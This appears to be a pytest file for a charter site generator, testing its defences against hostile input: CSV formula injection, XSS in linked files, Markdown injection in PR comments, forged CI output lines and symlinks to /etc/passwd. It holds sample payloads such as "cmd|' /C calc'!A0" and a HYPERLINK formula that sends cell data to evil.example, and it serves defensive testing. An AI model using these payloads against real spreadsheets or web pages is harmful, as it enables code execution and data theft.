"""Hostile input on the output side: linked files, spreadsheet formulas, JSON numbers,
Markdown in the PR comment, control characters in printed locations, huge variant
counts, broken templates and unwritable output folders.

docs/security.md describes each defence; these tests hold it.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import cmarkgfm
import pytest
from helpers import MINIMAL_BLOCKS, ScratchProject, at, parse_html, run_cli

from generator.formatting import (
    cut_message,
    cut_text,
    escape_markdown,
    escape_message,
    spreadsheet_cell,
    spreadsheet_row,
)

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 24
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
SCRIPT_HTML = b"<html><body><script>alert(document.domain)</script></body></html>\n"
SCRIPT_SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>\n'
)


def strict_json(text: str) -> Any:
    """JSON as the standard defines it: `Infinity` and `NaN` are errors."""

    def refuse(name: str) -> None:
        raise ValueError(f"{name} is not JSON")

    return json.loads(text, parse_constant=refuse)


def links_charter(project: ScratchProject, links: list[tuple[str, str]]) -> str:
    """The minimal charter with `links` (title, url) as its last block; returns the YAML."""
    return project.charter("routing", links=[{"title": t, "url": u} for t, u in links])


# --- linked files: an allow-list of inert types ---------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("notes/page.html", SCRIPT_HTML),
        ("notes/PAGE.HTM", SCRIPT_HTML),
        ("diagram.svg", SCRIPT_SVG),
        ("diagram.Svg", SCRIPT_SVG),
        ("app.js", b"alert(document.domain)\n"),
        ("app.mjs", b"alert(document.domain)\n"),
        ("page.xhtml", SCRIPT_HTML),
        ("feed.xml", b"<?xml version='1.0'?><x/>\n"),
        ("Makefile", b"all:\n"),
        ("fake.png", SCRIPT_HTML),
        ("fake.pdf", SCRIPT_HTML),
        ("readme.txt", b"  <script>alert(1)</script>\n"),
        ("readme.md", b"<!-- a comment --><img src=x onerror=alert(1)>\n"),
        ("data.csv", b"<html>\n"),
        ("data.json", b"\xef\xbb\xbf<?xml version='1.0'?>\n"),
        ("latin1.txt", "caf\u00e9".encode("latin-1")),
        ("nul.txt", b"text\x00more"),
    ],
)
def test_a_linked_file_that_could_run_is_refused_at_its_link(
    scratch_project: ScratchProject, name: str, content: bytes
) -> None:
    text = links_charter(scratch_project, [("Design doc", name)])
    scratch_project.write(f"charters/routing/{name}", content)
    result = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
    assert result.exit_code == 1, result.output
    where = at(text, "url: ", name)
    line = next(x for x in result.stderr.splitlines() if "links[0].url" in x)
    assert line.startswith(f"charters/routing/charter.yaml:{where}: links[0].url: {name!r}")
    assert "cannot be published" in line
    assert not scratch_project.out.exists()
    assert "Traceback" not in result.output

    checked = run_cli("check", "--source", scratch_project.root, "--format", "json")
    assert checked.exit_code == 1
    findings = strict_json(checked.stdout)["charters"][0]["findings"]
    assert [
        (f["code"], f["line"], f["severity"]) for f in findings if f["field"] == "links[0].url"
    ] == [("link-type", int(where.split(":")[0]), "error")]


def test_inert_linked_files_are_published_text_as_text(scratch_project: ScratchProject) -> None:
    files = {
        "docs/design.pdf": PDF,
        "img/flow.png": PNG,
        "img/photo.JPG": b"\xff\xd8\xff\xe0" + b"\x00" * 16,
        "img/anim.gif": b"GIF89a" + b"\x00" * 16,
        "img/pic.webp": b"RIFF\x10\x00\x00\x00WEBPVP8 " + b"\x00" * 8,
        "notes.txt": b"Notes: <b>not markup</b> in the middle is text.\n",
        "README.md": b"# Title\n\n<script>alert(1)</script> after text stays text.\n",
        "data/raw.json": b'{"a": 1}\n',
    }
    links_charter(scratch_project, [(name, name) for name in files])
    for name, content in files.items():
        scratch_project.write(f"charters/routing/{name}", content)
    result = scratch_project.build()
    assert result.ok, [d.format_text() for d in result.diagnostics]
    for name, content in files.items():
        assert (scratch_project.out / "charters/routing" / name).read_bytes() == content, name


def test_a_linked_csv_has_its_formulas_neutralised(scratch_project: ScratchProject) -> None:
    links_charter(scratch_project, [("Raw", "raw.csv"), ("Clean", "clean.csv")])
    raw = (
        "name,value,link\r\n"
        'a,-5,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\r\n'
        "b,+3.5,@SUM(1+1)*cmd|' /C calc'!A0\r\n"
        'c,1e-3,"\tleading tab"\r\n'
    )
    clean = "name,value\na,-5\nb,+2\n"
    scratch_project.write("charters/routing/raw.csv", raw)
    scratch_project.write("charters/routing/clean.csv", clean)
    assert scratch_project.build().ok
    out = scratch_project.out / "charters/routing"
    rows = list(csv.reader(io.StringIO((out / "raw.csv").read_text(encoding="utf-8"))))
    assert rows == [
        ["name", "value", "link"],
        ["a", "-5", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
        ["b", "+3.5", "'@SUM(1+1)*cmd|' /C calc'!A0"],
        ["c", "1e-3", "'\tleading tab"],
    ]
    assert (out / "raw.csv").read_bytes().count(b"\r\n") == 4  # line ends kept
    assert (out / "clean.csv").read_text(encoding="utf-8") == clean  # untouched: same bytes


def test_a_linked_semicolon_csv_is_read_with_its_own_separator(
    scratch_project: ScratchProject,
) -> None:
    # As a spreadsheet set to a decimal comma writes it; read with commas, each row was
    # one cell: the formula after a `;` stayed live and the quoting was rewritten.
    links_charter(scratch_project, [("Raw", "eu.csv"), ("Clean", "clean-eu.csv")])
    raw = 'name;value;link\na;-1,5;=HYPERLINK("http://evil.example")\n"b;c";2,5;"x, y"\n'
    clean = 'name;value\na;-1,5\n"b;c";2,5\n'
    scratch_project.write("charters/routing/eu.csv", raw)
    scratch_project.write("charters/routing/clean-eu.csv", clean)
    assert scratch_project.build().ok
    out = scratch_project.out / "charters/routing"
    text = (out / "eu.csv").read_text(encoding="utf-8")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["name", "value", "link"],
        ["a", "-1,5", '\'=HYPERLINK("http://evil.example")'],
        ["b;c", "2,5", "x, y"],
    ]
    assert (out / "clean-eu.csv").read_text(encoding="utf-8") == clean  # untouched


def test_a_cells_pieces_are_neutralised_after_separators_other_than_the_files() -> None:
    assert spreadsheet_cell("a,=1", ";") == "a,'=1"
    assert spreadsheet_cell("a;=1", ";") == "a;=1"
    assert spreadsheet_cell("a,=1;=2", "\t") == "a,'=1;'=2"


def test_a_comma_csv_whose_header_names_semicolons_stays_a_comma_csv(
    scratch_project: ScratchProject,
) -> None:
    # Read with `;` (the header has more of them), every row was rewritten as one cell.
    links_charter(scratch_project, [("Raw", "raw.csv")])
    raw = 'id,note (units: ms; p50; p95)\n1,"fast, stable"\n2,=HYPERLINK("http://evil.example")\n'
    scratch_project.write("charters/routing/raw.csv", raw)
    assert scratch_project.build().ok
    text = (scratch_project.out / "charters/routing/raw.csv").read_text(encoding="utf-8")
    assert list(csv.reader(io.StringIO(text))) == [
        ["id", "note (units: ms; p50; p95)"],
        ["1", "fast, stable"],
        ["2", '\'=HYPERLINK("http://evil.example")'],
    ]


def test_a_linked_csv_past_the_readers_limit_is_a_located_error(
    scratch_project: ScratchProject,
) -> None:
    # It failed the build with "internal error: Error: field larger than field limit".
    text = links_charter(scratch_project, [("Raw", "raw.csv")])
    scratch_project.write("charters/routing/raw.csv", "a,b\n1," + "x" * 200_000 + "\n")
    result = scratch_project.build()
    assert not result.ok
    (error,) = [d.format_text() for d in result.diagnostics if d.severity == "error"]
    assert error.startswith(
        f"charters/routing/charter.yaml:{at(text, 'url: ', 'raw')}: links[0].url: 'raw.csv'"
        " cannot be published: it cannot be read as CSV (field larger than field limit"
    ), error


# --- CSV downloads: no formulas --------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t'=1"),  # and after the tab, where a spreadsheet may split
        ("\r=1", "'\r'=1"),
        ("-5", "-5"),
        ("+0.25", "+0.25"),
        ("-1.5e-3", "-1.5e-3"),
        # Amounts a spreadsheet reads as numbers stay as written.
        ("-5%", "-5%"),
        ("-$5", "-$5"),
        ("-1,234.5", "-1,234.5"),
        ("-1,5", "-1,5"),
        ("-5 days", "'-5 days"),
        # A piece a spreadsheet splitting on `;`, a tab or a line break would start a cell
        # with, when it could call something.
        ('a;=HYPERLINK("x")', 'a;\'=HYPERLINK("x")'),
        ("x; +cmd|' /C calc'!A0", "x; '+cmd|' /C calc'!A0"),
        ('x;"@SUM(A1)', "x;\"'@SUM(A1)"),
        ("line\n=1+1", "line\n'=1+1"),
        ("costs fell; -5 days, +2 hours", "costs fell; -5 days, +2 hours"),
        # After the file's own separator a piece is inside a quoted cell for every reader.
        ("Reviewed by Bob, @alice", "Reviewed by Bob, @alice"),
        ("costs, -5 (approx)", "costs, -5 (approx)"),
        ("plain note", "plain note"),
        ("", ""),
    ],
)
def test_spreadsheet_cell_follows_the_owasp_rule(cell: str, expected: str) -> None:
    assert spreadsheet_cell(cell) == expected


def test_results_csv_download_neutralises_formulas(scratch_project: ScratchProject) -> None:
    scratch_project.charter("routing")
    scratch_project.write(
        "charters/routing/results/ab.csv",
        "date,metric,variant,value,note\n"
        '2026-05-04,ttfr,control,6.1,"=HYPERLINK(""http://evil.example"",""x"")"\n'
        "2026-05-04,ttfr,@treat,-5.0,+cmd|' /C calc'!A0\n",
    )
    result = scratch_project.build()
    assert result.ok, [d.format_text() for d in result.diagnostics]
    text = (scratch_project.out / "charters/routing/results.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted((r["variant"], r["value"], r["note"]) for r in rows) == [
        ("'@treat", "-5", "'+cmd|' /C calc'!A0"),
        ("control", "6.1", '\'=HYPERLINK("http://evil.example","x")'),
    ]
    # The JSON download keeps the values as written: it is not for spreadsheets.
    data = strict_json((scratch_project.out / "charters/routing/results.json").read_text())
    assert sorted(r["variant"] for r in data["rows"]) == ["@treat", "control"]


# --- JSON: never Infinity or NaN --------------------------------------------------------------

DENORMAL = (
    MINIMAL_BLOCKS["business_metrics"]
    .replace("direction: decrease", "direction: increase")
    .replace("baseline: {value: 6.2}", "baseline: {value: 0.0}")
    .replace("target: {value: 4.5}", "target: {value: 5.0e-324}")
)


def denormal_project(project: ScratchProject) -> None:
    project.charter("routing", business_metrics=DENORMAL)
    project.write(
        "charters/routing/results/ab.csv",
        "date,metric,variant,value\n2026-05-04,ttfr,,1.0\n",
    )


def test_api_json_is_valid_with_a_denormal_target(scratch_project: ScratchProject) -> None:
    denormal_project(scratch_project)
    result = scratch_project.build()
    assert result.ok, [d.format_text() for d in result.diagnostics]
    for path in sorted(scratch_project.out.rglob("*.json")):
        strict_json(path.read_text(encoding="utf-8"))  # every JSON file of the site
    api = strict_json((scratch_project.out / "api/charters.json").read_text(encoding="utf-8"))
    metric = api["charters"][0]["business_metrics"][0]
    assert metric["target"] == 5e-324
    assert metric["progress"] is None  # infinitely far past the target: not a number
    assert metric["target_met"] is True


def test_check_json_is_valid_with_a_denormal_target(scratch_project: ScratchProject) -> None:
    denormal_project(scratch_project)
    result = run_cli("check", "--source", scratch_project.root, "--format", "json")
    data = strict_json(result.stdout)
    assert data["charters"][0]["metrics"][0]["progress"] is None
    assert "Infinity" not in result.stdout and "NaN" not in result.stdout


def test_diff_json_is_valid_with_a_denormal_target(
    scratch_project: ScratchProject, tmp_path: Path
) -> None:
    before = tmp_path / "before"
    scratch_project.charter("routing")
    shutil.copytree(scratch_project.root, before)
    denormal_project(scratch_project)
    result = run_cli(
        "diff", before, scratch_project.root, "--source", scratch_project.root, "--format", "json"
    )
    assert result.exit_code == 0, result.output
    data = strict_json(result.stdout)
    (added,) = [c for c in data["changes"] if c["kind"] == "results-added"]
    assert added["after"]["progress"] is None


# --- the PR comment: charter text is never live Markdown --------------------------------------

HOSTILE_TITLE = (
    "Hi @acme/security-team and @octocat ![pixel](https://tracker.example/p.png)"
    " [click](javascript:alert(1)) <img src=x onerror=alert(1)> fixes #12,"
    " see https://evil.example and www.evil.example **bold** _it_ `code` ~~s~~ | pipe"
    " &#64;entity \\ back"
)


def assert_no_live_markdown(text: str) -> None:
    """Nothing of `text` is Markdown syntax once its backslash escapes are taken out."""
    bare = re.sub(r"\\.", "", text, flags=re.DOTALL)
    for raw in "<>[]()!*_`~|&":
        assert raw not in bare, (raw, text)
    for raw in ("https://", "www.", "@acme", "@octocat", "@here", "#12"):
        assert raw not in text, (raw, text)


def test_escape_markdown_leaves_no_live_syntax() -> None:
    text = escape_markdown(HOSTILE_TITLE + "\n- not a list\n# not a heading\x1b[31m")
    assert "\n" not in text and "\x1b" not in text
    assert_no_live_markdown(text)
    # Shown as written: removing the escapes gives the text back.
    shown = text.replace("\\", "").replace("\u200b", "")
    assert shown.startswith("Hi @acme/security-team and @octocat ![pixel](https://tracker")
    assert escape_markdown("- item") == "\\- item"
    assert escape_markdown("12. item") == "12\\. item"
    assert escape_markdown("6.2 hours (2026-11-08)") == "6.2 hours \\(2026-11-08\\)"


def test_escape_markdown_round_trips_every_printable_character() -> None:
    import string

    for a in string.printable.strip():
        for b in ("", "x", a, " //", "ww."):
            text = f"{a}{b}{a} w{a}{b}"
            escaped = escape_markdown(text)
            assert re.sub(r"\\(.)", r"\1", escaped).replace("\u200b", "") == text
            bare = re.sub(r"\\.", "", escaped)
            assert not set(bare) & set("<>[]()!*_`~|&\\"), (text, escaped)


def test_escape_message_keeps_generated_code_spans_and_escapes_the_rest() -> None:
    message = "`ttfr` agreed.by: Ana → @team ![p](https://t.example/p.png) a`b (re-agreed)"
    assert escape_message(message) == (
        "`ttfr` agreed.by: Ana → @\u200bteam \\!\\[p\\]\\(https\\://t.example/p.png\\)"
        " a\\`b \\(re-agreed\\)"
    )
    # A line start is escaped only at the start; control characters never pass.
    assert escape_message("- x `id` - y\n# z\x1b") == "\\- x `id` - y \\#\u200b z\ufffd"
    assert escape_message("`a\x1b`b`") == "`a\ufffd`b\\`"


def test_diff_comment_shows_hostile_titles_as_text(
    scratch_project: ScratchProject, tmp_path: Path
) -> None:
    before = tmp_path / "before"
    scratch_project.charter("routing")
    shutil.copytree(scratch_project.root, before)
    scratch_project.charter(
        "routing",
        title=json.dumps(HOSTILE_TITLE),
        status="experiment",
        business_metrics=MINIMAL_BLOCKS["business_metrics"].replace(
            "unit: hours", "unit: '@here ![t](https://t.example/u.png)'"
        ),
    )
    scratch_project.write(
        "charters/routing/results/ab.csv", "date,metric,variant,value\n2026-05-04,ttfr,,5.0\n"
    )
    result = run_cli("diff", before, scratch_project.root, "--source", scratch_project.root)
    assert result.exit_code == 0, result.output
    comment = result.stdout
    heading = next(x for x in comment.splitlines() if x.startswith("### `routing`"))
    assert_no_live_markdown(heading.split("`routing`", 1)[1])
    row = next(x for x in comment.splitlines() if x.startswith("| `ttfr`"))
    # | metric | latest before | latest after | trend | progress | rows |: the cells that
    # quote the charter's unit (the trend cell is the generator's own words).
    cells = re.split(r"(?<!\\)\|", row)[1:-1]
    assert len(cells) == 6, cells
    assert_no_live_markdown(cells[2].replace("(2026-05-04)", ""))
    assert_no_live_markdown(cells[4])
    assert "@\u200bhere" in cells[2] and "@\u200bhere" in cells[4]
    heading = next(x for x in comment.splitlines() if x.startswith("### `routing`"))
    assert re.sub(r"\\(.)", r"\1", heading).replace("\u200b", "").endswith(HOSTILE_TITLE)


HOSTILE_NAME = "@acme/security-team ![p](https://t.example/p.png) **CFO** `x` | y"


def test_diff_comment_escapes_signatories_in_flagged_goalposts(
    scratch_project: ScratchProject, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A re-agreed goalpost names who re-agreed: charter text, escaped like a title."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1780272000")  # 2026-06-01
    agreed = "\n    agreed: {by: [Ana Ruiz], on: 2026-01-10}"
    metrics = MINIMAL_BLOCKS["business_metrics"] + agreed
    before = tmp_path / "before"
    scratch_project.charter("routing", business_metrics=metrics)
    shutil.copytree(scratch_project.root, before)
    hostile = metrics.replace("target: {value: 4.5}", "target: {value: 4.0}").replace(
        "by: [Ana Ruiz], on: 2026-01-10", f"by: [{json.dumps(HOSTILE_NAME)}], on: 2026-06-01"
    )
    scratch_project.charter("routing", business_metrics=hostile)
    result = run_cli("diff", before, scratch_project.root, "--source", scratch_project.root)
    assert result.exit_code == 0, result.output
    flagged = [x for x in result.stdout.splitlines() if x.startswith("- 🚩 ")]
    moved = next(x for x in flagged if "target.value" in x)
    assert moved.startswith(
        "- 🚩 `ttfr` target.value: 4.5 → 4 \\(more ambitious\\); re-agreed by @\u200bacme"
    )
    assert len(flagged) >= 2  # the signatory dropped is an agreement change too
    for line in flagged:
        # Generated code spans stay code; the rest is inert and shows the names as written.
        text = re.sub(r"(?<!\\)`[^`]*`", "", line.removeprefix("- 🚩 "))
        assert_no_live_markdown(text)
        shown = re.sub(r"\\(.)", r"\1", line).replace("\u200b", "")
        assert HOSTILE_NAME.replace("`", "'") in shown or HOSTILE_NAME in shown, line


# --- control characters in printed locations --------------------------------------------------


def test_a_newline_in_a_file_name_cannot_forge_an_output_line(
    scratch_project: ScratchProject,
) -> None:
    scratch_project.charter("routing")
    forged = "x\n::error file=site.yaml,line=1::forged\x1b[2J"
    (scratch_project.root / "charters" / forged).mkdir()
    for fmt in ("text", "github"):
        result = run_cli("check", "--source", scratch_project.root, "--format", fmt)
        assert result.exit_code == 1, result.output
        lines = result.stdout.splitlines()
        assert not [x for x in lines if x.startswith("::error file=site.yaml")], lines
        assert "\x1b" not in result.stdout
        assert any("x\\n::error" in x or "x%0A::error" in x for x in lines), lines
    build = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
    assert build.exit_code == 1
    assert not [x for x in build.stderr.splitlines() if x.startswith("::error")]
    assert "charters/x\\n::error file=site.yaml,line=1::forged\\x1b[2J" in build.stderr


def test_a_newline_in_a_kept_file_name_cannot_forge_a_summary_line(
    scratch_project: ScratchProject,
) -> None:
    scratch_project.charter("routing")
    assert run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
    forged = "notes\n::error file=site.yaml,line=1::forged\x1b[2J"
    (scratch_project.out / forged).write_text("mine\n", encoding="utf-8")
    result = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
    assert result.exit_code == 0, result.output
    assert not [x for x in result.output.splitlines() if x.startswith("::error")]
    assert "\x1b" not in result.output
    assert "kept 1 file not written by charters: notes\\n::error" in result.stdout
    assert (scratch_project.out / forged).read_text(encoding="utf-8") == "mine\n"


# --- 10,000 variants: a chart draws the top few -----------------------------------------------


def test_ten_thousand_variants_build_in_seconds(scratch_project: ScratchProject) -> None:
    scratch_project.charter("routing", status="experiment")
    lines = ["date,metric,variant,value", "2026-05-04,ttfr,control,6.0"]
    # Beside control, the arm compared with it is named `treatment` (results.py).
    arms = ["treatment", *(f"v{i:05d}" for i in range(1, 10_000))]
    lines += [f"2026-05-04,ttfr,{arm},{5 + (i % 100) / 100}" for i, arm in enumerate(arms)]
    lines += ["2026-05-11,ttfr,v09999,4.9"]
    scratch_project.write("charters/routing/results/many.csv", "\n".join(lines) + "\n")
    started = time.perf_counter()
    result = scratch_project.build()
    elapsed = time.perf_counter() - started
    assert result.ok, [d.format_text() for d in result.diagnostics][:5]
    assert elapsed < 60, f"{elapsed:.1f} s"  # about 5 s; 1,000 variants took 46 s before
    page = parse_html(scratch_project.out / "charters/routing/index.html")
    alt = page.find("img", src="ttfr.svg").attrs["alt"] or ""
    assert alt.endswith("+9,992 more variants, see the data table.")
    assert "v09999 5.99 → 4.90" in alt and "control 6.00" in alt  # most rows first
    svg = (scratch_project.out / "charters/routing/ttfr.svg").read_text(encoding="utf-8")
    assert "+9,992 more variants, see the data table" in svg
    assert "v00500" not in svg  # left out of the chart ...
    figure = page.find("figure", id="chart-ttfr")
    assert "v09999" in figure.find("table").text()  # ... its data table has the latest rows
    assert "Showing the latest 1,000 of 10,002 rows" in figure.text()
    csv_text = (scratch_project.out / "charters/routing/results.csv").read_text(encoding="utf-8")
    assert "2026-05-04,ttfr,v00500,5" in csv_text  # ... and the CSV download has every row


def test_a_guardrail_with_ten_thousand_variants_builds_in_seconds(
    scratch_project: ScratchProject,
) -> None:
    """Every row is judged against the tolerance; the chart and its table stay linear."""
    scratch_project.charter(
        "routing",
        status="experiment",
        measurement=MINIMAL_BLOCKS["measurement"]
        + "\n  guardrails:"
        + "\n    - {id: lat, name: Latency, unit: ms, direction: decrease,"
        + " baseline: {value: 100}, tolerance: {value: 5}}",
    )
    lines = ["date,metric,variant,value"]
    lines += [f"2026-05-04,lat,v{i:05d},{100 + (i % 10)}" for i in range(10_000)]
    lines += ["2026-05-11,lat,v09999,120"]
    scratch_project.write("charters/routing/results/many.csv", "\n".join(lines) + "\n")
    started = time.perf_counter()
    result = scratch_project.build()
    elapsed = time.perf_counter() - started
    assert result.ok, [d.format_text() for d in result.diagnostics][:5]
    assert elapsed < 60, f"{elapsed:.1f} s"
    page = parse_html(scratch_project.out / "charters/routing/index.html")
    alt = page.find("img", src="lat.svg").attrs["alt"] or ""
    # 4,000 of the rows on 2026-05-04 are beyond 105 ms, and the one on 2026-05-11.
    assert "beyond it on 2 of 2 dates, latest 2026-05-11 at 120" in alt
    assert alt.endswith("+9,992 more variants, see the data table.")
    figure = page.find("figure", id="chart-lat")
    # The table shows the latest 1,000 rows: v09001 to v09999 on 2026-05-04, 400 of them
    # beyond 105 ms, and the row on 2026-05-11.
    assert figure.find("table").text().count("beyond") == 401
    assert "Showing the latest 1,000 of 10,001 rows" in figure.text()


def test_control_look_alikes_are_capped_too() -> None:
    from factory import charter_data, row, view

    from generator.charts import chart_spec, describe

    rows = [row("2026-05-04", "conv", 0.1)]  # production: always drawn
    rows += [row("2026-05-04", "conv", 0.1, "control" + " " * i) for i in range(300)]
    rows += [row("2026-05-04", "conv", 0.1, "Control"), row("2026-05-11", "conv", 0.1, "Control")]
    rows += [row("2026-05-04", "conv", 0.2, f"arm {i}") for i in range(20)]
    metric = view(charter_data(), rows).metric("conv")
    assert metric is not None
    started = time.perf_counter()
    spec = chart_spec(metric)
    assert time.perf_counter() - started < 5
    labels = [s.label for s in spec.series]
    assert labels[:2] == ["", "Control"] and len(labels) == 1 + 2 + 8
    assert spec.hidden == 1 + 300 + 20 + 1 - len(labels)
    assert describe(spec).endswith(f"+{spec.hidden} more variants, see the data table.")


# --- templates: located errors ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        (
            '{% extends "builtin/charter.html" %}\n{% block content %}\n{{ view.id }\n'
            "{% endblock %}\n",
            "templates/charter.html:3:1: template syntax error: unexpected '}'",
        ),
        (
            '{% extends "builtin/charter.html" %}\n{% block content %}\n<p>\n'
            "{{ no_such_value.title }}</p>\n{% endblock %}\n",
            "templates/charter.html:4:1: template error: undefined value:"
            " 'no_such_value' is undefined",
        ),
        (
            "{% include 'missing.html' %}\n",
            "templates/charter.html:1:1: template 'missing.html' not found",
        ),
        (
            "{% include 'charter.html' %}\n",
            "templates/charter.html:1:1: template error: a template extends, includes or calls"
            " itself without end",
        ),
    ],
)
def test_a_broken_template_is_a_located_error(
    scratch_project: ScratchProject, template: str, expected: str
) -> None:
    scratch_project.charter("routing")
    scratch_project.write("templates/charter.html", template)
    result = run_cli("build", "--source", scratch_project.root, "--out", scratch_project.out)
    assert result.exit_code == 1
    assert "internal error" not in result.output
    assert any(line.startswith(expected) for line in result.stderr.splitlines()), result.stderr
    assert not scratch_project.out.exists()


# --- output folders that cannot be written ----------------------------------------------------


@pytest.fixture
def small_mount(tmp_path: Path) -> Iterator[Path]:
    """A 256 KB tmpfs, mounted for the test (needs root; skipped otherwise, failed in CI)."""
    mount = tmp_path / "mnt"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        if os.environ.get("CI", "").lower() in ("true", "1", "yes"):
            pytest.fail(f"cannot mount a tmpfs in CI: {done.stderr.decode().strip()}")
        pytest.skip("mounting a tmpfs needs root")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def test_a_full_disk_is_a_clear_message(scratch_project: ScratchProject, small_mount: Path) -> None:
    scratch_project.charter("routing")
    scratch_project.write("charters/routing/big.txt", "x" * 400_000)
    scratch_project.charter("routing", links=[{"title": "Big", "url": "big.txt"}])
    out = small_mount / "site"
    result = run_cli("build", "--source", scratch_project.root, "--out", out)
    assert result.exit_code == 1
    assert "internal error" not in result.output
    assert f"error: cannot write the site into {out}: No space left on device" in result.stderr
    assert sorted(p.name for p in small_mount.iterdir()) == [".site.lock"]  # nothing half-written


def test_a_read_only_output_folder_is_a_clear_message(
    scratch_project: ScratchProject, small_mount: Path
) -> None:
    scratch_project.charter("routing")
    out = small_mount / "site"
    assert run_cli("build", "--source", scratch_project.root, "--out", out).exit_code == 0
    before = sorted(p.relative_to(out) for p in out.rglob("*"))
    subprocess.run(["mount", "-o", "remount,ro", str(small_mount)], check=True)
    scratch_project.charter("routing", title="Changed")
    result = run_cli("build", "--source", scratch_project.root, "--out", out)
    assert result.exit_code == 1
    assert "internal error" not in result.output
    assert f"error: cannot write beside the output folder {out}: Read-only file system" in (
        result.stderr
    )
    assert sorted(p.relative_to(out) for p in out.rglob("*")) == before


# --- diff: committed links out of the tree ----------------------------------------------------


@pytest.mark.parametrize("target", ["/etc/passwd", "../../../../outside.txt"])
def test_diff_refuses_a_committed_link_out_of_the_tree(
    scratch_project: ScratchProject, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, target: str
) -> None:
    if shutil.which("git") is None:
        if os.environ.get("CI", "").lower() in ("true", "1", "yes"):
            pytest.fail("git is not installed; CI must run the diff tests")
        pytest.skip("git is not installed")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    root = scratch_project.root
    scratch_project.charter("routing")

    def git(*args: str) -> None:
        subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)

    git("init", "-q")
    git("-c", "user.name=T", "-c", "user.email=t@example.com", "add", "-A")
    git("-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-qm", "one")
    (root / "charters/routing/notes.txt").symlink_to(target)
    git("-c", "user.name=T", "-c", "user.email=t@example.com", "add", "-A")
    git("-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-qm", "two")
    result = run_cli("diff", "HEAD~1", "HEAD", "--source", root)
    assert result.exit_code == 2, result.output
    assert "internal error" not in result.output and "root:" not in result.output
    assert "charters/routing/notes.txt" in result.stderr
    assert "only plain files, folders and links that stay inside the repository" in result.stderr


# --- the preview serves linked text as text ---------------------------------------------------


def test_serve_sends_linked_text_as_text_with_nosniff(scratch_project: ScratchProject) -> None:
    links_charter(scratch_project, [("Notes", "notes.md"), ("Data", "data.csv")])
    scratch_project.write(
        "charters/routing/notes.md", "# Notes\n\nText <script>alert(1)</script>\n"
    )
    scratch_project.write("charters/routing/data.csv", "a,b\n1,=1+1\n")
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "generator",
            "serve",
            "--source",
            scratch_project.root,
            "--port",
            "0",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=dict(os.environ, PYTHONUNBUFFERED="1"),
    )
    try:
        assert proc.stdout is not None
        line = ""
        deadline = time.monotonic() + 60
        while "Serving" not in line and time.monotonic() < deadline:
            line = proc.stdout.readline()
            assert line or proc.poll() is None
        url = line.split(" at ", 1)[1].split()[0]
        for name, kind in (("notes.md", "text/markdown"), ("data.csv", "text/csv")):
            with urlopen(url + "charters/routing/" + name, timeout=10) as response:
                assert response.headers["Content-Type"].startswith(kind), name
                assert response.headers["X-Content-Type-Options"] == "nosniff"
                body = response.read().decode()
        assert body == "a,b\n1,'=1+1\n"
    finally:
        proc.send_signal(signal.SIGINT)
        proc.communicate(timeout=15)


def test_an_output_folder_under_a_file_is_a_clear_message(
    scratch_project: ScratchProject, tmp_path: Path
) -> None:
    scratch_project.charter("routing")
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder\n", encoding="utf-8")
    out = blocker / "site"
    result = run_cli("build", "--source", scratch_project.root, "--out", out)
    assert result.exit_code == 1
    assert "internal error" not in result.output and "Traceback" not in result.output
    assert result.stderr.startswith(f"error: cannot write beside the output folder {out}: ")
    assert blocker.read_text(encoding="utf-8") == "not a folder\n"


@pytest.mark.parametrize(
    ("cells", "delimiter", "expected"),
    [
        # A spreadsheet splitting on `;` sees `-1,5+cmd|…`: -1.5 plus a call, where `,`
        # is the decimal sign; each cell alone was left as written.
        (["x;-1", "5+cmd|' /C calc'!A0"], ",", ["x;'-1", "5+cmd|' /C calc'!A0"]),
        (["-5", "3+cmd|' /C calc'!A0"], ",", ["'-5", "3+cmd|' /C calc'!A0"]),
        (["x\t+1", "2+cmd|' /C calc'!A0"], ",", ["x\t'+1", "2+cmd|' /C calc'!A0"]),
        (["a,-1", "5+cmd|x!A0"], ";", ["a,'-1", "5+cmd|x!A0"]),
        # Amounts, and calls no other reader's cell starts with, stay as written.
        (["-5", "fell (week 3)"], ",", ["-5", "fell (week 3)"]),
        (["-5", "3", "f(x)"], ",", ["'-5", "3", "f(x)"]),  # a call to a spreadsheet at ;
        (["-5", "Great week!"], ",", ["-5", "Great week!"]),
